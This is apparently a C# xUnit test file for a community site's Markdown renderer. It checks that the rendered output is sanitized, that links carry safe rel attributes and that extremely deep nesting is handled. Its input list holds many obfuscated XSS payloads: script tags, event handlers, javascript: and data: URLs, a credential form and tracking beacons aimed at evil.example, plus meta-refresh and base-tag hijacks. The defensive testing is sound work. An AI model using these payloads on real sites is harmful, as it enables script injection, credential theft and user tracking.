using System.Text.RegularExpressions;
using RisingGoal.Community.Infrastructure.Rendering;

namespace RisingGoal.Community.Tests.Rendering;

public sealed class MarkdownRendererTests
{
    private readonly MarkdownRenderer _renderer = new();

    private string Html(string markdown) => _renderer.Render(markdown).Html;

    public static TheoryData<string> DangerousInputs => new()
    {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"#\" onclick=\"alert(1)\">click</a>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](&#x6A;avascript&#x3A;alert(1))",
        "[click](java\\script:alert(1))",
        "[click](<java\nscript:alert(1)>)",
        "[click](java%0ascript:alert(1))",
        "[click](java&#10;script:alert(1))",
        "[click](java&#x09;script:alert(1))",
        "[click](java&Tab;script:alert(1))",
        "[click](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))",
        "<JaVaScRiPt:alert(1)>",
        "<&#106;avascript:alert(1)>",
        "[click]( javascript:alert(1))",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "<javascript:alert(1)>",
        "<data:text/html,<script>alert(1)</script>>",
        "[ref]\n\n[ref]: javascript:alert(1)",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "[click](https://example.com){onclick=alert(1)}",
        "# Title {onclick=alert(1)}",
        "text {#id .class onclick=alert(1)}",
        "<form action=\"https://evil.example\"><input name=password><button>Go</button></form>",
        "<input type=\"text\" value=\"steal\">",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">overlay</p>",
        "<div style=\"background:url(https://evil.example/track.png)\">x</div>",
        "<style>body{background:url(https://evil.example/t.png)}</style>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
    };

    [Theory]
    [MemberData(nameof(DangerousInputs))]
    public void Dangerous_input_comes_out_inert(string markdown)
    {
        var html = Html(markdown);

        Assert.DoesNotMatch(new Regex("<(script|svg|math|iframe|object|embed|form|button|textarea|select|style|meta|base|link)\\b", RegexOptions.IgnoreCase), html);
        var tags = ExtractAttributes(html);   // what the browser treats as markup; escaped text may mention anything
        Assert.DoesNotMatch(new Regex("\\son[a-z]+\\s*=", RegexOptions.IgnoreCase), tags);   // event handlers
        Assert.DoesNotMatch(new Regex("(href|src)\\s*=\\s*\"?\\s*(javascript|vbscript|data):", RegexOptions.IgnoreCase), tags);
        Assert.DoesNotMatch(new Regex("\\sstyle\\s*=", RegexOptions.IgnoreCase), tags);
        foreach (Match url in Regex.Matches(tags, "(?:href|src)\\s*=\\s*\"([^\"]*)\"", RegexOptions.IgnoreCase))
        {
            // What the browser sees: attribute entities decoded once, then whitespace and controls ignored in the scheme.
            var value = Regex.Replace(System.Net.WebUtility.HtmlDecode(url.Groups[1].Value), "[\\s\\x00-\\x1f]", "");
            var scheme = Regex.Match(value, "^([a-zA-Z][a-zA-Z0-9+.-]*):");
            Assert.True(!scheme.Success || scheme.Groups[1].Value.ToLowerInvariant() is "http" or "https" or "mailto", url.Value);
        }
        Assert.DoesNotMatch(new Regex("<input(?![^>]*type=\"checkbox\")", RegexOptions.IgnoreCase), html);
        Assert.DoesNotContain("url(", ExtractAttributes(html));
    }

    /// <summary>Text between tags may mention url( harmlessly; only attribute values matter.</summary>
    private static string ExtractAttributes(string html) =>
        string.Concat(Regex.Matches(html, "<[^>]+>").Select(m => m.Value));

    [Fact]
    public void Images_become_links_never_a_remote_image_or_a_tracking_pixel()
    {
        var html = Html("Voir ![le tableau de bord](https://tracker.example/p.gif) et ![](https://cdn.example/x.png)");
        Assert.DoesNotContain("<img", html);
        Assert.Contains("<a href=\"https://tracker.example/p.gif\" rel=\"nofollow ugc noopener\" class=\"image-link\">le tableau de bord</a>", html);
        Assert.Contains(">https://cdn.example/x.png</a>", html);
    }

    [Fact]
    public void Markdown_attribute_syntax_stays_text()
    {
        var html = Html("[click](https://example.com){onclick=alert(1)}");
        Assert.Contains("{onclick=alert(1)}", html);
        Assert.DoesNotContain("onclick=\"", html);
    }

    [Fact]
    public void Raw_html_is_shown_as_text_not_trusted()
    {
        var html = Html("Hello <b>world</b>");
        Assert.Contains("&lt;b&gt;world&lt;/b&gt;", html);
        Assert.DoesNotContain("<b>", html);
    }

    [Fact]
    public void Task_list_checkboxes_survive_disabled_and_nothing_else()
    {
        var html = Html("- [x] done\n- [ ] to do");
        Assert.True(Regex.Matches(html, "<input").Count == 2, html);
        Assert.All(Regex.Matches(html, "<input[^>]*>").Select(m => m.Value), input =>
        {
            Assert.Contains("type=\"checkbox\"", input);
            Assert.Contains("disabled", input);
        });
        Assert.Contains("checked", html);
        Assert.Contains("class=\"contains-task-list\"", html);
    }

    [Fact]
    public void CommonMark_basics_render()
    {
        var html = Html("Some **bold**, *italic*, `code` and a [link](https://example.com \"t\").\n\n> quoted\n\n1. one\n2. two\n\n```\nblock\n```\n\n---");
        Assert.Contains("<strong>bold</strong>", html);
        Assert.Contains("<em>italic</em>", html);
        Assert.Contains("<code>code</code>", html);
        Assert.Contains("<blockquote>", html);
        Assert.Contains("<ol>", html);
        Assert.Contains("<pre><code>block", html);
        Assert.Contains("<hr>", html);
        Assert.Contains("<a href=\"https://example.com\" rel=\"nofollow ugc noopener\" title=\"t\">link</a>", html);
    }

    [Fact]
    public void Emphasis_extras_render()
    {
        var html = Html("~~gone~~ ++added++ ==marked== H~2~O x^2^");
        Assert.Contains("<del>gone</del>", html);
        Assert.Contains("<ins>added</ins>", html);
        Assert.Contains("<mark>marked</mark>", html);
        Assert.Contains("<sub>2</sub>", html);
        Assert.Contains("<sup>2</sup>", html);
    }

    [Fact]
    public void Tables_render()
    {
        var html = Html("| Tension | Seen |\n|---|---|\n| Ambition vs execution | yes |");
        Assert.Contains("<table>", html);
        Assert.Contains("<th>Tension</th>", html);
        Assert.Contains("<td>Ambition vs execution</td>", html);
    }

    [Fact]
    public void Footnotes_render_with_their_anchors()
    {
        var html = Html("A claim.[^1]\n\n[^1]: The source.");
        Assert.Contains("class=\"footnote-ref\"", html);
        Assert.Contains("href=\"#fn:1\"", html);
        Assert.Contains("id=\"fn:1\"", html);
        Assert.Contains("The source.", html);
        Assert.DoesNotContain("href=\"#fn:1\" rel=", html);
    }

    [Fact]
    public void Autolinks_get_rel()
    {
        var html = Html("See https://example.com/page and <https://example.org>.");
        Assert.Equal(2, Regex.Matches(html, "<a href=\"https://example\\.(com/page|org)\" rel=\"nofollow ugc noopener\">").Count);
    }

    [Fact]
    public void Links_get_rel_nofollow_ugc_noopener_and_lose_targets()
    {
        var html = Html("[a](https://example.com) [b](mailto:someone@example.com)");
        Assert.Equal(2, Regex.Matches(html, "rel=\"nofollow ugc noopener\"").Count);
        Assert.DoesNotContain("target=", html);
    }

    [Fact]
    public void Headings_are_shifted_below_the_page_h1()
    {
        var html = Html("# Top\n\n## Second\n\n###### Deepest");
        Assert.DoesNotContain("<h1", html);
        Assert.Contains("<h2>Top</h2>", html);
        Assert.Contains("<h3>Second</h3>", html);
        Assert.Contains("<h6>Deepest</h6>", html);
    }

    [Fact]
    public void A_body_starting_at_h3_starts_at_h2_so_no_level_is_skipped()
    {
        var html = Html("### Context\n\n#### Detail");
        Assert.Contains("<h2>Context</h2>", html);
        Assert.Contains("<h3>Detail</h3>", html);
    }

    [Fact]
    public void Ids_and_classes_are_limited_to_what_markdig_produces()
    {
        // Every construct that carries an id or a class: footnotes, task lists, and fenced code, whose language class
        // (language-js, written by the member) Markdig does produce but the allowlist does not keep. The member also
        // writes ids and classes by every road a pipeline change could open (attribute syntax, raw HTML): the sanitizer
        // is what stands behind the pipeline.
        var html = Html("# main {#main .evil}\n\nText[^1] and a list:\n\n- [x] done\n- [ ] open\n\n```js\nalert(1)\n```\n\n" +
                        "<p id=\"raw\" class=\"raw\">raw</p>\n\n[^1]: The note.");

        var tags = ExtractAttributes(html);   // the raw HTML stays text, which may read id="raw" harmlessly
        var ids = Regex.Matches(tags, "\\sid=\"([^\"]*)\"").Select(m => m.Groups[1].Value).ToList();
        var classes = Regex.Matches(tags, "\\sclass=\"([^\"]*)\"").SelectMany(m => m.Groups[1].Value.Split(' ')).Distinct().ToList();
        Assert.Contains("fn:1", ids);                       // footnote anchors are kept...
        Assert.All(ids, id => Assert.Matches("^fn(ref)?:\\d+$", id));   // ...and nothing else claims an id
        Assert.Contains("task-list-item", classes);
        Assert.Contains("footnote-ref", classes);
        Assert.DoesNotContain("language-js", classes);
        Assert.All(classes, c => Assert.Contains(c, new[]
        {
            "contains-task-list", "task-list-item", "task-list-item-checkbox", "footnotes", "footnote-ref", "footnote-back-ref",
        }));
    }

    public static TheoryData<string, string> AbsurdlyDeep => new()
    {
        { "blockquotes on one line", string.Concat(Enumerable.Repeat("> ", 10_000)) + "deep" },
        { "blockquotes one per line", string.Join("\n", Enumerable.Range(1, 2_000).Select(i => new string('>', i) + " x")) },
        { "lists on one line", string.Concat(Enumerable.Repeat("- ", 10_000)) + "deep" },
        { "ordered lists on one line", string.Concat(Enumerable.Repeat("1. ", 10_000)) + "deep" },
        { "indented lists", string.Join("\n", Enumerable.Range(0, 2_000).Select(i => new string(' ', i * 2) + "- item")) },
        { "mixed quotes and lists", string.Concat(Enumerable.Repeat("> - ", 5_000)) + "deep" },
    };

    [Theory]
    [MemberData(nameof(AbsurdlyDeep))]
    public void Absurdly_deep_nesting_falls_back_to_escaped_text_without_crashing(string name, string markdown)
    {
        Assert.True(MarkdownRenderer.IsTooDeep(markdown), name);
        var html = Html(markdown + "\n<script>alert(1)</script>");
        Assert.StartsWith("<p class=\"markdown-fallback\">", html);
        Assert.DoesNotContain("<blockquote", html);
        Assert.DoesNotContain("<script", html);
        Assert.Contains("&lt;script&gt;", html);
        Assert.NotNull(_renderer.ToPlainText(markdown));
    }

    /// <summary>
    /// Markdig's own nesting limit: <c>MarkdownPipelineBuilder.MaximumNestingDepth</c>, whose default (128) the
    /// renderer's pipeline keeps. Raising it (or lifting it) lets inline nesting our pre-scans cannot see reach the
    /// renderer's recursion.
    /// </summary>
    private const int MarkdigNestingLimit = 128;

    /// <summary>Inline nesting <paramref name="depth"/> levels deep on one line: images in images, or emphasis in emphasis.</summary>
    private static string NestedInline(string kind, int depth) => kind switch
    {
        "images" => string.Concat(Enumerable.Repeat("![", depth)) + "x" + string.Concat(Enumerable.Repeat("](https://e.example/i.png)", depth)),
        "emphasis" => new string('*', 2 * depth - 1) + "x" + new string('*', 2 * depth - 1),   // strong in strong…, one em at the core
        _ => throw new ArgumentOutOfRangeException(nameof(kind)),
    };

    [Theory]
    [InlineData("images")]
    [InlineData("emphasis")]
    public void Deep_inline_nesting_is_caught_by_markdigs_own_limit(string kind)
    {
        var underTheLimit = NestedInline(kind, MarkdigNestingLimit - 1);
        string[] refused = [NestedInline(kind, MarkdigNestingLimit), NestedInline(kind, 2 * MarkdigNestingLimit)];
        // Nothing in the line prefixes nests, and the openers stay under the caps: the pre-scans let all of them through...
        foreach (var markdown in refused.Append(underTheLimit))
        {
            Assert.False(MarkdownRenderer.IsTooDeep(markdown), kind);
            Assert.False(MarkdownRenderer.HasTooManyOpeners(markdown), kind);
        }
        // ...so what tells them apart is Markdig's own limit: one level under it renders as Markdown...
        Assert.NotNull(_renderer.TryRender(underTheLimit));
        // ...and from the limit on, Markdig's exception is caught on every road.
        foreach (var markdown in refused)
        {
            Assert.Null(_renderer.TryRender(markdown));
            Assert.StartsWith("<p class=\"markdown-fallback\">", Html(markdown));
            Assert.Equal(markdown, _renderer.ToPlainText(markdown));
            Assert.Equal(0, MarkdownRenderer.CountLinks(markdown));
        }
    }

    [Fact]
    public void Ordinary_nesting_renders_normally()
    {
        var markdown = "> quoted\n> > nested\n\n- a\n  - b\n    - c";
        Assert.False(MarkdownRenderer.IsTooDeep(markdown));
        var html = Html(markdown);
        Assert.Equal(2, Regex.Matches(html, "<blockquote>").Count);
        Assert.Equal(3, Regex.Matches(html, "<ul>").Count);
    }

    [Fact]
    public void Deeply_indented_code_is_not_mistaken_for_nesting()
    {
        var markdown = "```json\n" + string.Join("\n", Enumerable.Range(0, 60).Select(i => new string(' ', i * 2) + "{ \"level\": " + i)) + "\n```";
        Assert.False(MarkdownRenderer.IsTooDeep(markdown));
        Assert.Contains("<pre><code", Html(markdown));
    }

    [Fact]
    public void Plain_text_has_no_markup()
    {
        var text = _renderer.ToPlainText("## Title\n\nSome **bold** and a [link](https://example.com).\n\n<script>x</script>");
        Assert.Contains("Title", text);
        Assert.Contains("Some bold and a link.", text);
        Assert.DoesNotContain("**", text);
        Assert.DoesNotContain("](", text);
    }

    [Fact]
    public void Null_and_empty_render_to_nothing()
    {
        Assert.Equal("", Html(""));
        Assert.Equal("", _renderer.Render(null).Html);
        Assert.Equal(MarkdownRenderer.Version, _renderer.Render("x").RendererVersion);
    }
}
